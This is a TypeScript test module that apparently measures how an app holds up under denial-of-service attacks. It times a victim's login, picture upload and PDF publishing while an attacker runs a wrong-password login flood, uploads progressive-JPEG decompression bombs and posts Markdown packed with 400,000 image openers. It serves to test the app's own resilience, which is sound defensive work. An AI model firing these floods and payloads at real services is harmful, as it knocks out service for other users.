import { setTimeout as wait } from 'node:timers/promises';
import { makePdf } from '@xuelin/server/conversion/testing/conversion.testing';
import { progressiveJpeg } from '@xuelin/server/file/pictures/progressive-jpeg.testing';
import { password, type Answer, type AttackTarget } from './attack-target.ts';
import { median } from './cpu.ts';
import { sendDocument } from './attack-uploads.ts';

const victim = '13800000001';
const attacker = '13800000002';
/** How long somebody waits, in ms. */
type Waits = { alone: number; attacked: number };

async function timeOf(act: () => Promise<unknown>): Promise<number> {
  const start = performance.now();
  await act();
  return performance.now() - start;
}

/** A right login, alone and behind 250 wrong ones of 250 phones from 250 addresses. */
export async function blockLogins(target: AttackTarget): Promise<Waits> {
  const alone: number[] = [];
  for (let i = 0; i < 5; i++) alone.push(await timeOf(() => target.login(victim)));
  const wrong = Array.from({ length: 250 }, (_, i) => ({
    phone: i % 2 === 0 ? `138000000${String(10 + (i % 15)).padStart(2, '0')}` : `1390000${String(1_000 + i)}`,
    password: `wrong-${i}-password`,
  })).map((input) => target.ask('login/account', input));
  await wait(100);
  const attacked = await timeOf(async () => {
    // As a person does whom the app tells that it is busy.
    for (;;) {
      const { data } = await target.ask('login/account', { phone: victim, password });
      if (data) return;
      await wait(1_000);
    }
  });
  await Promise.allSettled(wrong);
  return { alone: median(alone), attacked };
}

/** A small picture, alone and while another member's 21 JPEGs of 2,600 scans are read. */
export async function picturesHeldUp(target: AttackTarget): Promise<Waits & { kilobytes: number }> {
  const [mine, theirs] = [await target.login(victim), await target.login(attacker)];
  const small = progressiveJpeg({ side: 800, scans: 10 });
  const bomb = progressiveJpeg({ side: 4_000, scans: 2_600 });
  const alone: number[] = [];
  for (let i = 0; i < 5; i++) alone.push(await timeOf(() => sendPicture(target, mine, small)));
  const bombs = Array.from({ length: 21 }, () => sendPicture(target, theirs, bomb).catch(() => null));
  await wait(300);
  const attacked = await timeOf(async () => {
    // An app that is busy may end the connection, too.
    while ((await sendPicture(target, mine, small).catch(() => null))?.code !== 200) await wait(1_000);
  });
  await Promise.all(bombs);
  return { alone: median(alone), attacked, kilobytes: Math.round(bomb.length / 1024) };
}

async function sendPicture({ url }: AttackTarget, token: string, bytes: Buffer): Promise<Answer> {
  const body = new FormData();
  body.append('files', new Blob([new Uint8Array(bytes)]), '照片.png');
  const response = await fetch(`${url}/apis/upload/image?version=1.0.0&s=uniapp`, {
    method: 'POST',
    headers: { TOKEN: token },
    body,
  });
  return (await response.json()) as Answer;
}

/** Two pages from publishing to published, alone and behind another member's Markdown of 0.8 MB of repeated openers. */
export async function openersHeldUp(target: AttackTarget): Promise<Waits> {
  const [mine, theirs] = [await target.login(victim), await target.login(attacker)];
  const pages = (title: string) => makePdf({ pages: 2, text: (page) => `第${page}页 ${title}` });
  const publish = (title: string) =>
    timeOf(() => sendDocument(target, mine, { name: `${title}.pdf`, bytes: pages(title) }));
  const alone = [await publish('静一'), await publish('静二'), await publish('静三')];
  const openers = Buffer.from(`# 笔记\n\n${'!['.repeat(400_000)}\n`);
  await sendDocument(target, theirs, { name: '笔记.md', bytes: openers }, { untilPublished: false });
  return { alone: median(alone), attacked: await publish('忙一') };
}
